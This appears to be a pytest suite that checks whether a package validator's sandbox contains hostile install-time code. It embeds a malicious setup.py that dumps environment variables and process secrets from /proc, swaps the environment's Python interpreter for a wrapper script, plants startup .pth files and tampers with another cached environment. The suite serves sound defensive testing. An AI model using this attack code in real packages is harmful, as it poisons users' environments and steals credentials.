"""Issue 9, class 1: install-time code must not poison the environment, anything beside it, or
model-check itself. Real uv, real bubblewrap sandbox, real builds from the machine's local indexes.

The attacker is a local-path sdist in requirements.txt whose setup.py, while uv builds it, finds the
environment it is installed into (from uv's command line in /proc), replaces its bin/python with a
script that leaves a marker, plants a .pth that leaves a marker, writes into the environment cache,
into a previously built environment and into uv's shared cache, and dumps every variable and
command line it can see. Afterwards model-check does what follows a build (list the distributions,
run the checks, reuse the cache for a second package): no marker may appear outside the build's
own folder, the other environment must stay byte-identical, no secret may appear anywhere, and the
poisoned interpreter must never run outside the sandbox.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

from validator.core.options import Options
from validator.pipeline.runner import run
from validator.readers.package import ModelPackage
from validator.readers.runtime_spec import read_runtime
from validator.reporters.json_report import render_json
from validator.reporters.markdown import render_markdown
from validator.runtime.environments.builder import BuildFailure
from validator.runtime.environments.venv import VenvBuilder, VenvEnv, uv_binary
from validator.sandbox.bubblewrap import sandbox_support

SECRETS = {"GITHUB_TOKEN": "ghs_mcAttackProbe0123456789abcdefABCDEF", "AWS_SECRET_ACCESS_KEY": "mc-aws-secret-0b9f3c",
           "MC_PLAIN_LOOKING": "mc-plain-secret-77d1"}

pytestmark = pytest.mark.skipif(
    not sandbox_support().hidden_files and os.environ.get("CI") != "true",
    reason="bubblewrap is not usable here: the sandbox cannot hide the host's file system")

ATTACK = r'''
import json, os, pathlib
CONFIG = json.loads(%(config)r)
markers = pathlib.Path(CONFIG["markers"])
log = []

def attempt(what, action):
    try:
        action()
        log.append(what + ": DONE")
    except BaseException as exc:
        log.append(what + ": FAILED " + type(exc).__name__)

def target_env():
    """The environment uv installs into: --python <env>/bin/python on an ancestor's command line."""
    pid = os.getpid()
    for _ in range(12):
        try:
            argv = pathlib.Path("/proc/%%d/cmdline" %% pid).read_bytes().split(b"\0")
            status = pathlib.Path("/proc/%%d/status" %% pid).read_text()
        except OSError:
            return None
        if b"--python" in argv:
            return pathlib.Path(argv[argv.index(b"--python") + 1].decode()).parent.parent
        pid = int(next(line.split()[1] for line in status.splitlines() if line.startswith("PPid:")))
        if pid <= 1:
            return None
    return None

seen = dict(os.environ)
for pid in ("self", str(os.getppid()), "1"):
    for part in ("environ", "cmdline"):
        try:
            seen["/proc/%%s/%%s" %% (pid, part)] = pathlib.Path("/proc/%%s/%%s" %% (pid, part)).read_bytes().decode("utf-8", "replace")
        except OSError:
            pass
dump = json.dumps(seen)
print(dump)
env = target_env()
log.append("target env: %%s" %% env)
for place in CONFIG["outside"]:
    attempt("write " + place, lambda place=place: pathlib.Path(place, "ATTACK-MARKER").write_text(dump))
attempt("append to the other environment's six.py", lambda: open(CONFIG["other_six"], "a").write("\nraise SystemExit('poisoned')\n"))
if env is not None:
    python = env / "bin" / "python"
    def replace():
        real = os.path.realpath(python)
        python.unlink()
        python.write_text("#!/bin/sh\necho ran > %%s/poisoned-python-ran\nexec %%s \"$@\"\n" %% (markers, real))
        python.chmod(0o755)
    if CONFIG["replace_python"] and python.is_symlink():
        attempt("replace bin/python", replace)
    site = next((env / "lib").glob("python*/site-packages"), None)
    if site is not None:
        attempt("plant a .pth", lambda: (site / "zz_attack.pth").write_text(
            "import pathlib; pathlib.Path(%%r).write_text('ran')\n" %% str(markers / "pth-ran")))
        attempt("plant a secret-named distribution", lambda: (site / "leak-1.0.dist-info").mkdir(exist_ok=True) or
                (site / "leak-1.0.dist-info" / "METADATA").write_text(
                    "Metadata-Version: 2.1\nName: leak\nVersion: %%s\n" %% seen.get("GITHUB_TOKEN", "none-seen")))
        attempt("leave evidence", lambda: (site / "attack-evidence.txt").write_text("\n".join(log) + "\n" + dump))
from setuptools import setup
setup(name="mc-attack", version="1.0", py_modules=[])
'''


def tree_digest(root: Path) -> str:
    """Everything about a folder that matters: paths, types, modes, contents, link targets."""
    digest = hashlib.sha256()
    for path in sorted(root.rglob("*")):
        info = path.lstat()
        digest.update(f"{path.relative_to(root)}\0{info.st_mode}\0".encode())
        if stat.S_ISLNK(info.st_mode):
            digest.update(os.readlink(path).encode())
        elif stat.S_ISREG(info.st_mode):
            digest.update(hashlib.sha256(path.read_bytes()).digest())
    return digest.hexdigest()


def build(root: Path, cache: Path) -> VenvEnv | BuildFailure:
    pkg = ModelPackage(root)
    try:
        return VenvBuilder().build(pkg, read_runtime(pkg), Options(env="venv", cache_dir=str(cache)))
    finally:
        pkg.close()


def package(root: Path, requirements: str, **files: str) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    (root / "requirements.txt").write_text(requirements)
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


def make_wheel(out: Path, name: str, code: str) -> Path:
    """A pure-Python wheel of `name` 1.0 whose module holds `code`, written by hand (no build backend)."""
    module = name.replace("-", "_")
    files = {f"{module}/__init__.py": code.encode(),
             f"{module}-1.0.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode(),
             f"{module}-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = [f"{path},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}"
              for path, data in files.items()]
    files[f"{module}-1.0.dist-info/RECORD"] = ("\n".join([*record, f"{module}-1.0.dist-info/RECORD,,"]) + "\n").encode()
    out.mkdir(parents=True, exist_ok=True)
    wheel = out / f"{module}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for path, data in files.items():
            archive.writestr(path, data)
    return wheel


def files_containing(root: Path, needles: list[bytes]) -> list[str]:
    found = []
    for path in root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            found += [f"{path}: {needle.decode()}" for needle in needles if needle in data]
    return found


@pytest.fixture()
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    """Secrets in model-check's environment, a private shared uv cache, an environment cache holding a
    victim environment (six), and an empty markers folder the attacker aims at."""
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    uv_cache = tmp_path / "uv-cache"
    monkeypatch.setenv("UV_CACHE_DIR", str(uv_cache))
    cache = tmp_path / "envs"
    victim_pkg = package(tmp_path / "victim", "six==1.16.0\n")
    victim = build(victim_pkg, cache)
    assert isinstance(victim, VenvEnv), victim
    markers = tmp_path / "markers"
    markers.mkdir()
    return {"tmp": tmp_path, "cache": cache, "uv_cache": uv_cache, "victim_pkg": victim_pkg, "victim": victim.prefix,
            "markers": markers}


def attack_package(world: dict[str, Path], name: str, replace_python: bool) -> Path:
    victim = world["victim"]
    config = {"markers": str(world["markers"]), "replace_python": replace_python,
              "outside": [str(world["cache"]), str(victim), str(world["uv_cache"]), str(world["markers"])],
              "other_six": str(next(victim.glob("lib/python*/site-packages/six.py")))}
    return package(world["tmp"] / name, "./attack\n", **{"attack/setup.py": ATTACK % {"config": json.dumps(config)}})


def assert_nothing_escaped(world: dict[str, Path], victim_digest: str, *texts: str) -> None:
    assert sorted(p.name for p in world["markers"].iterdir()) == [], "a marker appeared outside the build's folder"
    assert not list(world["cache"].glob("ATTACK-MARKER")) and not list(world["uv_cache"].glob("ATTACK-MARKER"))
    assert tree_digest(world["victim"]) == victim_digest, "the other cached environment changed"
    needles = [value.encode() for value in SECRETS.values()]
    assert files_containing(world["tmp"], needles) == []
    for text in texts:
        assert not [value for value in SECRETS.values() if value in text]


def test_install_time_code_cannot_reach_other_environments_secrets_or_the_host(world: dict[str, Path]) -> None:
    victim_digest = tree_digest(world["victim"])
    attacker = attack_package(world, "attacker", replace_python=False)
    built = build(attacker, world["cache"])
    assert isinstance(built, VenvEnv), built
    evidence = next(built.prefix.glob("lib/python*/site-packages/attack-evidence.txt")).read_text()
    assert "target env: None" not in evidence, "the attack ran and found its environment"
    assert "plant a .pth: DONE" in evidence  # its own build folder is writable to it
    for place in ("write " + str(world["victim"]), "write " + str(world["uv_cache"]),
                  "append to the other environment's six.py"):  # not even visible to it
        assert f"{place}: FAILED" in evidence, evidence
    # What follows a build: list the distributions (files only), run the checks, reuse the cache.
    assert built.installed()["mc-attack"] == "1.0" and built.installed()["leak"] == "none-seen"
    assert built.info.cache_key is None and any("install-time code ran" in note and "not reused" in note
                                                for note in built.info.notes)
    assert any("network access" in note for note in built.info.notes)
    report = run(attacker, Options(env="venv", cache_dir=str(world["cache"])))
    assert report.environment is not None and report.environment["cached"] is False
    again = build(world["victim_pkg"], world["cache"])  # a second, unrelated package with the victim's runtime
    assert isinstance(again, VenvEnv) and again.info.cached and again.prefix == world["victim"]
    assert again.installed() == {"six": "1.16.0"}
    assert_nothing_escaped(world, victim_digest, render_json(report), render_markdown(report), evidence)


def test_a_replaced_interpreter_fails_the_build_and_never_runs_outside_the_sandbox(world: dict[str, Path]) -> None:
    victim_digest = tree_digest(world["victim"])
    attacker = attack_package(world, "attacker", replace_python=True)
    failed = build(attacker, world["cache"])
    assert isinstance(failed, BuildFailure), failed
    assert "replaced the environment's interpreter" in failed.reason
    report = run(attacker, Options(env="venv", cache_dir=str(world["cache"])))
    [finding] = [f for f in report.findings if f.rule == "MC350"]
    assert "replaced the environment's interpreter" in finding.message
    assert not list((world["cache"] / "private").glob("*/env")), "the poisoned environment is removed"
    assert_nothing_escaped(world, victim_digest, failed.reason, failed.output_tail, render_json(report))


def test_an_editable_requirement_never_gets_the_shared_uv_cache(world: dict[str, Path]) -> None:
    """uv builds editables even with --no-build (astral-sh/uv#20234): they go straight to the private build."""
    victim_digest = tree_digest(world["victim"])
    attacker = attack_package(world, "attacker", replace_python=False)
    (attacker / "requirements.txt").write_text("-e ./attack\n")
    built = build(attacker, world["cache"])
    assert isinstance(built, VenvEnv), built
    assert any("an editable install, requirements.txt line 1" in note or "mc-attack" in note
               for note in built.info.notes), built.info.notes
    evidence = next(built.prefix.glob("lib/python*/site-packages/attack-evidence.txt")).read_text()
    assert f"write {world['uv_cache']}: FAILED" in evidence
    assert_nothing_escaped(world, victim_digest, evidence)


def test_listing_distributions_never_runs_the_interpreter(world: dict[str, Path]) -> None:
    """Even a swapped bin/python (here planted by hand after a build) is never executed by model-check."""
    pkg = package(world["tmp"] / "plain", "six==1.16.0\n")
    env = build(pkg, world["tmp"] / "other-cache")
    assert isinstance(env, VenvEnv)
    marker = world["markers"] / "python-ran"
    python = env.prefix / "bin" / "python"
    python.unlink()
    python.write_text(f"#!/bin/sh\necho ran > {marker}\nexit 1\n")
    python.chmod(0o755)
    site = next(env.prefix.glob("lib/python*/site-packages"))
    (site / "zz.pth").write_text(f"import pathlib; pathlib.Path({str(world['markers'] / 'pth-ran')!r}).write_text('x')\n")
    assert env.installed() == {"six": "1.16.0"}
    from validator.runtime.tool_layer import interpreter_identity

    assert interpreter_identity(str(python)) is None  # asked in the sandbox: it failed there, and ran nowhere else
    assert list(world["markers"].iterdir()) == []


# -- a cached environment is verified before reuse ----------------------------------------------

def test_a_changed_file_in_a_cached_environment_is_detected_and_rebuilt(world: dict[str, Path]) -> None:
    six = next(world["victim"].glob("lib/python*/site-packages/six.py"))
    original = six.read_text()
    with six.open("a") as handle:
        handle.write("\nraise SystemExit('tampered')\n")
    again = build(world["victim_pkg"], world["cache"])
    assert isinstance(again, VenvEnv) and not again.info.cached
    assert any("was not reused but rebuilt" in note and "six.py changed after the build" in note
               for note in again.info.notes), again.info.notes
    assert six.read_text() == original
    reused = build(world["victim_pkg"], world["cache"])
    assert isinstance(reused, VenvEnv) and reused.info.cached


def test_a_swapped_interpreter_in_a_cached_environment_is_never_run_and_rebuilt(world: dict[str, Path]) -> None:
    python = world["victim"] / "bin" / "python"
    marker = world["markers"] / "swapped-python-ran"
    real = os.path.realpath(python)
    python.unlink()
    python.write_text(f"#!/bin/sh\necho ran > {marker}\nexec {real} \"$@\"\n")
    python.chmod(0o755)
    again = build(world["victim_pkg"], world["cache"])
    assert isinstance(again, VenvEnv) and not again.info.cached
    assert any("bin/python is no longer the link" in note for note in again.info.notes), again.info.notes
    assert python.is_symlink() and os.path.realpath(python) == real
    assert not marker.exists()


def test_an_added_pth_file_in_a_cached_environment_is_detected(world: dict[str, Path]) -> None:
    site = next(world["victim"].glob("lib/python*/site-packages"))
    (site / "zz_added.pth").write_text("import os\n")
    again = build(world["victim_pkg"], world["cache"])
    assert isinstance(again, VenvEnv) and not again.info.cached
    assert any("zz_added.pth was added after the build" in note for note in again.info.notes), again.info.notes
    assert not (site / "zz_added.pth").exists()


def test_a_local_wheel_makes_the_environment_private(world: dict[str, Path]) -> None:
    """A wheel inside the package is not part of the cache key: two packages with the same
    requirements.txt and different wheels must never share an environment."""
    wheels = [make_wheel(world["tmp"] / f"dist{number}", "mc-local-wheel", f"WHICH = {number}\n") for number in (1, 2)]
    built = []
    for number, wheel in enumerate(wheels, 1):
        pkg = package(world["tmp"] / f"pkg{number}", f"./wheels/{wheel.name}\n")
        (pkg / "wheels").mkdir()
        shutil.copy(wheel, pkg / "wheels" / wheel.name)
        env = build(pkg, world["cache"])
        assert isinstance(env, VenvEnv), env
        assert env.info.cache_key is None and not env.info.cached
        assert any("installed from a URL or a path" in note for note in env.info.notes), env.info.notes
        built.append(next(env.prefix.glob("lib/python*/site-packages/mc_local_wheel/__init__.py")).read_text())
    assert built == ["WHICH = 1\n", "WHICH = 2\n"]


# -- the pieces, without a build ------------------------------------------------------------------

def test_requirements_that_uv_would_build_anyway_skip_the_wheels_only_install(tmp_path: Path) -> None:
    from validator.runtime.environments.venv import install_time_code

    cases = {"six==1.16.0\n": None, "-e ./x\n": "an editable install", "--editable=./x\n": "an editable install",
             "six\n-e./x\n": "an editable install", "--extra-index-url https://x.example/simple\nsix\n": None,
             "-r https://x.example/r.txt\n": "an include fetched from a URL", "-r ../outside.txt\n": "outside the package",
             "-r more.txt\n": "an editable install", "six  # -e ./x in a comment\n": None}
    for text, expected in cases.items():
        (tmp_path / "requirements.txt").write_text(text)
        (tmp_path / "more.txt").write_text("--editable ./y\n")
        found = install_time_code(tmp_path, ["requirements.txt"])
        assert (found is None) if expected is None else (found is not None and expected in found), (text, found)


def test_the_build_that_runs_install_time_code_gets_no_credentials(tmp_path: Path) -> None:
    from validator.runtime.environments.installer import installer
    from validator.runtime.environments.pipconfig import InstallerSettings

    config = tmp_path / "uv.toml"
    config.write_text("[[index]]\nurl = 'https://user:config-secret@idx.example/simple'\n")
    environ = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "UV_CONFIG_FILE": str(config),
               "UV_INDEX_URL": "https://user:url-secret@idx.example/simple", "UV_KEYRING_PROVIDER": "subprocess",
               "UV_INDEX_STRATEGY": "unsafe-best-match", "UV_COMPILE_BYTECODE": "1", "UV_LINK_MODE": "symlink",
               "HTTPS_PROXY": "http://proxyuser:proxy-secret@proxy.example:3128"}
    settings = InstallerSettings(("--extra-index-url", "https://u:args-secret@idx.example/simple"), {})
    shared = installer(uv_binary(), settings, environ)
    private = installer(uv_binary(), settings, environ, tmp_path / "private-cache")
    assert shared.env["UV_CONFIG_FILE"] == str(config) and "url-secret" in shared.env["UV_INDEX_URL"]
    assert private.env["UV_NO_CONFIG"] == "1" and "UV_CONFIG_FILE" not in private.env
    assert private.env["UV_INDEX_URL"] == "https://idx.example/simple"
    assert private.env["UV_CACHE_DIR"] == str(tmp_path / "private-cache") and "UV_KEYRING_PROVIDER" not in private.env
    assert private.env["UV_INDEX_STRATEGY"] == "unsafe-best-match"
    for install in (shared, private):  # decided by model-check, never by the caller's environment
        assert "UV_COMPILE_BYTECODE" not in install.env and "UV_LINK_MODE" not in install.env
    text = json.dumps([private.env, private.args])
    assert not [s for s in ("config-secret", "url-secret", "args-secret", "proxy-secret") if s in text]
    assert any("withheld" in note for note in private.notes)


def test_host_side_tools_get_an_explicit_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """uv's queries and `pip config list` run on the host: with PATH, HOME, locale and their own variables only."""
    from validator.runtime.environments import installer as installer_module
    from validator.runtime.environments import pipconfig
    seen: list[dict[str, str] | None] = []
    real_run = subprocess.run

    def spy(*args: Any, **kwargs: Any) -> Any:
        seen.append(kwargs.get("env"))
        return real_run(*args, **kwargs)

    monkeypatch.setenv("GITHUB_TOKEN", SECRETS["GITHUB_TOKEN"])
    monkeypatch.setattr(subprocess, "run", spy)
    pipconfig.read_pip_settings.cache_clear()
    installer_module.uv_locations.cache_clear()
    try:
        pipconfig.read_pip_settings(sys.executable)
        installer_module.uv_locations(uv_binary(), (("HOME", os.environ["HOME"]), ("PATH", os.environ["PATH"])))
        from validator.runtime.environments.venv import find_interpreter

        find_interpreter(uv_binary(), "3.11", os.environ)
    finally:
        pipconfig.read_pip_settings.cache_clear()
        installer_module.uv_locations.cache_clear()
    assert seen and all(env is not None and "GITHUB_TOKEN" not in env for env in seen), seen


def test_conda_prefixes_are_read_as_data(tmp_path: Path) -> None:
    """No conda installer on this machine: the reading of a prefix is checked on a hand-made one."""
    from validator.runtime.environments.builder import BuildInfo
    from validator.runtime.environments.conda import CondaEnv, conda_packages, verify
    from validator.runtime.environments.manifest import record
    from validator.runtime.environments.venv import MARKER

    holder = tmp_path / "holder"
    prefix = holder / "env"
    (prefix / "conda-meta").mkdir(parents=True)
    (prefix / "conda-meta" / "python-3.11.7-h0.json").write_text(json.dumps({"name": "python", "version": "3.11.7"}))
    (prefix / "conda-meta" / "leak.json").symlink_to("/etc/hostname")  # never followed
    site = prefix / "lib" / "python3.11" / "site-packages" / "six-1.16.0.dist-info"
    site.mkdir(parents=True)
    (site / "METADATA").write_text("Metadata-Version: 2.1\nName: six\nVersion: 1.16.0\n\nName: not-this\n")
    (prefix / "bin").mkdir()
    python = prefix / "bin" / "python"
    python.write_text(f"#!/bin/sh\necho ran > {tmp_path / 'ran'}\n")
    python.chmod(0o755)
    assert conda_packages(prefix) == {"python": "3.11.7"}
    env = CondaEnv(prefix, BuildInfo("conda", "environment.yml", "3.11.7"), "micromamba")
    assert env.installed() == {"python": "3.11.7", "six": "1.16.0"}
    assert not (tmp_path / "ran").exists()
    (holder / MARKER).write_text(json.dumps({"format": "model-check-conda-2", "manifest": record(prefix)}))
    assert verify(holder) is None
    (site / "METADATA").write_text("Metadata-Version: 2.1\nName: six\nVersion: 9.9\n")
    assert "METADATA changed after the build" in (verify(holder) or "")
